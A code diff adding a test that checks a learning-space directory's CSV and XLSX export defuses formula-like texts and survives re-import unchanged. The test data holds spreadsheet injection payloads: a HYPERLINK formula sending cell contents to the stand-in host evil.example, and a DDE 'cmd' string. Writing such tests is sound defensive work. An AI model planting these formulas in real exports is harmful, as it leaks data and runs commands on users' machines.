@@ -108,3 +108,17 @@ def test_export_reimports_unchanged(client, city, areas, people, kinds):
     assert run(city, people["city_admin"], csv_bytes) == {"create": 0, "update": 0, "unchanged": 2}
     xlsx = client.get("/son-la/spaces/export.xlsx").content
     assert run(city, people["city_admin"], xlsx) == {"create": 0, "update": 0, "unchanged": 2}
+
+
+def test_formula_like_texts_survive_an_export_and_reimport(client, city, areas, people, kinds):
+    """The export defuses formula-like texts (a quote in CSV, a text cell in XLSX); the import takes them back."""
+    run(city, people["city_admin"], GOOD.encode())
+    address = '=1+HYPERLINK("http://evil.example/?d="&B2,"Open map")'
+    description = "-2+3+cmd|' /C calc'!A0"
+    LearningSpace.objects.filter(city=city).update(address=address, description_vi=description)
+    for fmt in ("csv", "xlsx"):
+        content = client.get(f"/son-la/spaces/export.{fmt}").content
+        assert run(city, people["city_admin"], content) == {"create": 0, "update": 0, "unchanged": 2}, fmt
+    assert set(LearningSpace.objects.filter(city=city).values_list("address", "description_vi")) == {
+        (address, description)
+    }
